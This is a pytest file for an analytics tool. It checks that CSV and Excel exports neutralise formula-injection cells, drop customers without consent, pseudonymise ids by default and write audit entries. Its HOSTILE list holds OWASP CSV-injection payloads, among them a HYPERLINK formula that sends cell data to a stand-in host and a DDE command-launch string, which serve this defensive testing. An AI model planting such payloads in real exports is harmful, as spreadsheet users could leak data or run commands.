"""No export of any command holds a cell a spreadsheet evaluates as a formula, and every export
follows one policy (consent-filtered, pseudonymised unless personal data are asked for,
audited).

A small synthetic world is ingested with hostile customer ids, customer names and contact
details and product names (OWASP CSV-injection payloads), run, and exported through every
command that writes CSV or Excel: `actions export`, `segments export`, the run's results file
and scheduled alert exports. Each file is then read back raw (csv module, openpyxl)."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from upmarket import pipeline
from upmarket.activation import holdout, privacy
from upmarket.activation import rules as R
from upmarket.activation.holdout import HoldoutSettings
from upmarket.activation.spreadsheet import (FORMULA_PREFIXES, header_text, is_dangerous,
                                             neutralise, neutralise_frame, unneutralise,
                                             write_csv, write_xlsx)
from upmarket.cli import app
from upmarket.cli.runs import export_results
from upmarket.demo import WorldConfig
from upmarket.demo.world import generate_world
from upmarket.i18n import LABELS
from upmarket.models.value import ValueSettings
from upmarket.opstore.store import open_store, read_audit
from upmarket.warehouse import connect
from upmarket.warehouse.ingest import ingest

runner = CliRunner()

HOSTILE = ['=HYPERLINK("http://x"&B2,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1",
           "\t=1", "\uff1d1+1"]
#: How a payload may begin once ingested (a leading tab can be trimmed on the way in).
STARTS = tuple({*HOSTILE, *(h.strip() for h in HOSTILE)})
PSEUDONYM = re.compile(r"p_[0-9a-f]{20}")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def _hostile_world(folder: Path):
    """The synthetic world with six of its best customers renamed to hostile ids (in every
    table), hostile names, e-mails and phones for everyone, hostile product names; each
    renamed customer is given a fresh e-mail consent so their rows reach the exports, and every
    third other customer withdraws."""
    config = WorldConfig(customers=300)
    parts = list(generate_world(config))
    orders = pd.concat([f for t, f in parts if t == "orders"])
    consents = pd.concat([f for t, f in parts if t == "consents"])
    best = orders.groupby("customer_id").size().sort_values(ascending=False).index
    best = [c for c in best if c in set(consents["customer_id"])][:len(HOSTILE)]
    renamed = dict(zip(best, HOSTILE))
    for table, frame in parts:
        if "customer_id" in frame:
            frame["customer_id"] = frame["customer_id"].map(lambda c: renamed.get(c, c))
        if table == "customers":
            n = len(frame)
            frame["name"] = [HOSTILE[i % len(HOSTILE)] + f" {i}" for i in range(n)]
            frame["email"] = [f"{HOSTILE[(i + 1) % len(HOSTILE)]}{i}@example.test"
                              for i in range(n)]
            frame["phone"] = [f"+86 138 {i:04d} 0000" for i in range(n)]
        if table == "products":
            frame["name"] = [HOSTILE[i % len(HOSTILE)] + f" {sku}"
                             for i, sku in enumerate(frame["sku"])]
        if table == "consents":
            fresh = pd.DataFrame({"customer_id": HOSTILE, "purpose": "marketing",
                                  "channel": "email", "granted": True,
                                  "ts": config.as_of - pd.Timedelta(days=1), "source": "test"})
            # every third other customer withdraws on every channel, so that every value tier
            # holds people an export must leave out, whatever the world drew
            others = sorted(set(frame["customer_id"]) - set(HOSTILE))[::3]
            mine = frame[frame["customer_id"].isin(others) & (frame["purpose"] == "marketing")]
            withdrawn = mine[["customer_id", "purpose", "channel"]].drop_duplicates().assign(
                granted=False, ts=config.as_of - pd.Timedelta(days=2), source="test")
            frame = pd.concat([frame, fresh, withdrawn], ignore_index=True)
        yield table, frame


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    url = f"duckdb://{folder}/w.duckdb"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("UPMARKET_DATABASE", f"sqlite:///{folder}/ops.sqlite")
        wh = connect(url)
        for table, frame in _hostile_world(folder):
            ingest(table, frame, warehouse=wh, source="hostile test world")
        # which customers the run holds out depends on the warehouse's holdout salt, drawn at
        # random on first use: a fixed one makes which hostile customers are contacted (and so
        # exported) the same on every run of this test
        wh.insert(holdout.SALT_TABLE, pd.DataFrame({"salt": ["export-safety"],
                                                    "created": [pd.Timestamp("2024-01-01")]}))
        # one value model is enough here: exports do not depend on which one is chosen
        ctx = pipeline.run(wh, WorldConfig(customers=300).as_of, settings=pipeline.Settings(
            value=ValueSettings(candidates=("bgnbd",))))
        ids = set(wh.table("customers").to_pandas()["customer_id"])
        wh.close()
    return url, ctx, ids


@pytest.fixture(autouse=True)
def ops_store(tmp_path, monkeypatch):
    """Audit records go to the operational store; keep each test's in its own file."""
    monkeypatch.setenv("UPMARKET_DATABASE", f"sqlite:///{tmp_path}/ops.sqlite")
    monkeypatch.setenv("UPMARKET_ACTOR", "analyst-42")


def csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def xlsx_cells(path: Path) -> list[list]:
    wb = openpyxl.load_workbook(path)
    try:
        return [[c for c in row] for ws in wb.worksheets for row in ws.iter_rows()]
    finally:
        wb.close()


def assert_safe(path: Path) -> list[str]:
    """Fail on any cell a spreadsheet would evaluate; return every text cell."""
    texts = []
    if path.suffix == ".csv":
        for r, row in enumerate(csv_cells(path), start=1):
            for c, cell in enumerate(row, start=1):
                # a number such as -10356.0 is read as a number, never as a formula
                assert NUMBER.fullmatch(cell) or not is_dangerous(cell), \
                    f"{path.name} row {r} column {c}: {cell!r}"
                texts.append(cell)
    else:
        for row in xlsx_cells(path):
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not is_dangerous(cell.value), \
                        f"{path.name} {cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    return texts


def read_back(path: Path) -> pd.DataFrame:
    """The file as the values it holds, the added quotes taken off."""
    if path.suffix == ".csv":
        rows = csv_cells(path)
    else:
        rows = [[c.value for c in row] for row in xlsx_cells(path)]
        # a workbook's headers are labels: read them back as the columns they name
        rows[0] = [COLUMN_OF.get(h, str(h).replace(" ", "_")) for h in rows[0]]
    return pd.DataFrame(rows[1:], columns=rows[0]).map(unneutralise)


#: column name by workbook header (`header_text`), for every column a label names
COLUMN_OF = {header_text(code, "en"): code for code in
             [k.split(".", 1)[1] for k in LABELS if k.startswith("col.")] +
             [k.split(".", 1)[1] for k in LABELS if k.startswith("field.")]}


def audit_log() -> pd.DataFrame:
    store = open_store()  # UPMARKET_DATABASE, set by the autouse fixture
    try:
        return read_audit(store)
    finally:
        store.close()


def test_hostile_values_reach_the_warehouse_and_the_run(world):
    _, ctx, ids = world
    # "\t=1" may lose its tab on the way in; every other payload is kept as given
    kept = {h.strip() for h in HOSTILE}
    assert kept <= {i.strip() for i in ids}
    assert kept & set(ctx.results["customer_id"].str.strip()) == kept


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_actions_export_has_no_formula(world, tmp_path, fmt):
    url, _, ids = world
    for pii in (False, True):
        out = tmp_path / f"a{int(pii)}.{fmt}"
        r = runner.invoke(app, ["actions", "export", "--format", fmt, "--out", str(out),
                                "-w", url, "--json", *(["--with-pii"] if pii else [])])
        assert r.exit_code == 0, r.output
        texts = assert_safe(out)
        # the payloads were in the file, neutralised, and read back as they were given
        assert any(t.startswith("'") and unneutralise(t).startswith(STARTS) for t in texts)
        back = read_back(out)
        assert back["product_name"].str.startswith(STARTS).any()
        if pii:
            assert set(back["customer_id"]) <= ids
            assert set(back["customer_id"]) & set(HOSTILE)
            assert back["name"].str.startswith(STARTS).all()
            assert back["phone"].str.startswith("+86").all()
        else:
            assert back["customer_ref"].str.fullmatch(PSEUDONYM.pattern).all()
            assert "customer_id" not in back and "name" not in back


def _group_of_hostile(ctx) -> str:
    res = ctx.results
    return str(res.loc[res["customer_id"] == HOSTILE[0], "tier"].iloc[0])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_segments_export_has_no_formula_and_follows_the_policy(world, tmp_path, fmt):
    url, ctx, ids = world
    tier = _group_of_hostile(ctx)
    members = set(ctx.results.loc[ctx.results["tier"] == tier, "customer_id"])

    plain = tmp_path / f"plain.{fmt}"
    r = runner.invoke(app, ["segments", "export", tier, "--by", "tier", "--format", fmt,
                            "--out", str(plain), "-w", url, "--json"])
    assert r.exit_code == 0, r.output
    rep = json.loads(r.stdout)
    assert_safe(plain)
    back = read_back(plain)
    assert rep["pseudonymised"] and rep["rows"] == len(back) > 0
    assert "customer_id" not in back and not {"name", "email", "phone"} & set(back)
    assert back["customer_ref"].str.fullmatch(PSEUDONYM.pattern).all()
    assert not set(back["customer_ref"]) & ids

    clear = tmp_path / f"clear.{fmt}"
    r = runner.invoke(app, ["segments", "export", tier, "--by", "tier", "--format", fmt,
                            "--out", str(clear), "--with-pii", "-w", url, "--json"])
    assert r.exit_code == 0, r.output
    texts = assert_safe(clear)
    assert "'" + HOSTILE[0] in texts
    back = read_back(clear)
    assert HOSTILE[0] in set(back["customer_id"]) and set(back["customer_id"]) <= members
    assert back["email"].str.endswith("@example.test").all()
    # the same people as the pseudonymised file, under the same key
    wh = connect(url, create=False)
    try:
        key = privacy.pseudonym_key(wh)
    finally:
        wh.close()
    refs = set(read_back(plain)["customer_ref"])
    assert set(privacy.pseudonymise(back["customer_id"], key)) == refs

    log = audit_log()
    mine = log[log["actor"] == "analyst-42"]
    assert list(mine["action"]) == ["export_segment", "export_segment_with_pii"]
    detail = [json.loads(d) for d in mine["detail"]]
    assert [d["with_pii"] for d in detail] == [False, True]
    assert [d["rows"] for d in detail] == [rep["rows"], len(back)]
    assert list(mine["subject"]) == [str(plain), str(clear)]


def test_segments_export_leaves_out_people_without_consent(world, tmp_path):
    url, ctx, _ = world
    tier = _group_of_hostile(ctx)
    members = set(ctx.results.loc[ctx.results["tier"] == tier, "customer_id"])
    wh = connect(url, create=False)
    try:
        c = wh.table("consents").to_pandas()
    finally:
        wh.close()
    # the consent in force, computed here: latest marketing row per customer and channel
    c = c[(c["purpose"] == "marketing") & (c["ts"] < privacy.now_utc())]
    latest = c.sort_values("ts").groupby(["customer_id", "channel"]).tail(1)
    consenting = set(latest.loc[latest["granted"].astype(bool), "customer_id"])
    assert members - consenting, "the test world needs members without consent"

    out = tmp_path / "s.csv"
    r = runner.invoke(app, ["segments", "export", tier, "--by", "tier", "--out", str(out),
                            "--with-pii", "-w", url, "--json"])
    assert r.exit_code == 0, r.output
    rep = json.loads(r.stdout)
    got = set(read_back(out)["customer_id"])
    assert got == members & consenting
    assert rep["dropped_no_consent"] == len(members - consenting)

    # HOSTILE[0] withdraws every consent through the CLI: gone from the next export at once
    for channel in set(latest.loc[latest["customer_id"] == HOSTILE[0], "channel"]):
        r = runner.invoke(app, ["consents", "set", HOSTILE[0], "--withdrawn",
                                "--channel", channel])
        assert r.exit_code == 0, r.output
    again = tmp_path / "s2.csv"
    r = runner.invoke(app, ["segments", "export", tier, "--by", "tier", "--out", str(again),
                            "--with-pii", "-w", url])
    assert r.exit_code == 0, r.output
    assert "left out for lack of marketing consent" in " ".join(r.output.split())  # wrapped
    assert set(read_back(again)["customer_id"]) == got - {HOSTILE[0]}

    unknown = runner.invoke(app, ["segments", "export", HOSTILE[0], "--by", "tier",
                                  "--out", str(tmp_path / "x.csv"), "-w", url])
    assert unknown.exit_code != 0 and "no tier group" in unknown.output
    assert not (tmp_path / "x.csv").exists()


def test_results_file_has_no_formula_and_is_pseudonymised(world, tmp_path):
    url, ctx, ids = world
    wh = connect(url, create=False)
    store = open_store()
    try:
        ctx.wh = wh
        files, left_out = export_results(ctx, tmp_path, store=store)
    finally:
        store.close()
        wh.close()
    path = files["customers"]
    for written in files.values():
        assert_safe(written)
    back = read_back(path)
    assert len(back) + left_out == len(ctx.results) and left_out > 0
    assert back["customer_ref"].str.fullmatch(PSEUDONYM.pattern).all()
    assert not set(back["customer_ref"]) & ids
    # the workbook holds the same rows under readable headers
    book = pd.read_excel(files["customers_xlsx"], dtype=str)
    assert list(book[header_text("customer_ref", "en")]) == list(back["customer_ref"])
    rows = audit_log().iloc[-2:]
    assert list(rows["action"]) == ["export_results"] * 2
    assert list(rows["subject"]) == [str(p) for p in files.values()]
    assert all(json.loads(d)["rows"] == len(back) for d in rows["detail"])


def test_scheduled_alert_exports_have_no_formula(world, tmp_path):
    url, ctx, ids = world
    folder = tmp_path / "alerts"
    rules = R.parse_rules({"rules": [
        {"name": "everyone_xlsx", "when": {"customer": ["orders > 0"]},
         "actions": [{"export": {"path": str(folder), "format": "xlsx", "channel": "email"}}]},
        {"name": "everyone_pii", "when": {"customer": ["orders > 0"]},
         "actions": [{"export": {"path": str(folder), "channel": "email", "pii": True}}]}]},
        "t.yaml")
    wh = connect(url, create=False)
    store = open_store()
    try:
        R.evaluate_run(wh, store, ctx.run.run_id, rules, privacy.now_utc(),
                       holdout_settings=HoldoutSettings(share=0.0))
    finally:
        store.close()
        wh.close()
    xlsx, = folder.glob("everyone_xlsx_*.xlsx")
    pii, = folder.glob("everyone_pii_*.csv")
    for path in (xlsx, pii):
        assert_safe(path)
    assert read_back(xlsx)["customer_ref"].str.fullmatch(PSEUDONYM.pattern).all()
    back = read_back(pii)
    assert set(back["customer_id"]) <= ids and HOSTILE[0] in set(back["customer_id"])
    assert back["name"].str.startswith(STARTS).all()
    actions = set(audit_log()["action"])
    assert {"export_alerts", "export_alerts_with_pii"} <= actions


# -- the neutraliser and the writers on their own ---------------------------------------------
@settings(max_examples=200, deadline=None)
@given(st.text() | st.builds(lambda h, t: h + t, st.sampled_from(HOSTILE), st.text(max_size=5)))
def test_neutralised_text_never_starts_a_formula_and_is_reversible(text):
    safe = neutralise(text)
    assert not is_dangerous(safe)
    assert unneutralise(safe) == text
    # only a dangerous text (or one hiding behind quotes) gains a quote, and only one
    assert safe == text or safe == "'" + text


@given(st.sampled_from(["", "'", "''"]), st.sampled_from(FORMULA_PREFIXES), st.text(max_size=8))
def test_quotes_in_front_of_a_prefix_still_round_trip(quotes, prefix, rest):
    text = quotes + prefix + rest
    safe = neutralise(text)
    assert safe == "'" + text and unneutralise(safe) == text


def test_writers_keep_numbers_and_store_text_as_strings(tmp_path):
    frame = pd.DataFrame({"label": HOSTILE, "amount": [-1.5, 2, -3, 4, 5, -float("inf")],
                          "count": [-1, 2, 3, 4, 5, 6]})
    assert neutralise_frame(frame)["count"].dtype == frame["count"].dtype
    assert neutralise_frame(frame.head(5))["amount"].dtype == frame["amount"].dtype
    write_xlsx(frame, tmp_path / "t.xlsx")
    write_csv(frame, tmp_path / "t.csv")
    rows = xlsx_cells(tmp_path / "t.xlsx")
    assert [c.data_type for c in rows[1]] == ["s", "n", "n"]
    assert rows[1][1].value == -1.5 and rows[1][2].value == -1  # a negative number stays one
    assert [r[0].value for r in rows[1:]] == ["'" + h for h in HOSTILE]
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert list(back["label"].map(unneutralise)) == HOSTILE
    assert list(back["amount"]) == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "'-inf"]
    assert rows[6][1].value == "'-inf" and rows[6][1].data_type == "s"
    assert not list(tmp_path.glob("*.part"))
